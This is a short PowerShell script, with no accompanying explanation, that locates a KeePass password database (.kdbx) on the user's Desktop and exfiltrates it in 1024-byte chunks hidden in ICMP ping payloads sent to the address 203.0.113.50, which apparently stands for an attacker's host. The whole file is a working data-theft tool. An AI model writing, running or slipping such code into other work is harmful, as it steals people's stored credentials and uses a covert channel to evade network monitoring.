$dest = '203.0.113.50'
$ping = New-Object System.Net.NetworkInformation.Ping
$opts = New-Object System.Net.NetworkInformation.PingOptions
$opts.DontFragment = $true

$secret = Get-ChildItem -Path "$env:USERPROFILE\Desktop" -Filter *.kdbx | Select-Object -First 1
$bytes = [IO.File]::ReadAllBytes($secret.FullName)
for ($i = 0; $i -lt $bytes.Length; $i += 1024) {
    $end = [Math]::Min($i + 1023, $bytes.Length - 1)
    $reply = $ping.Send($dest, 2000, $bytes[$i..$end], $opts)
    if ($reply.Status -ne 'Success') {
        sleep 1
    }
}
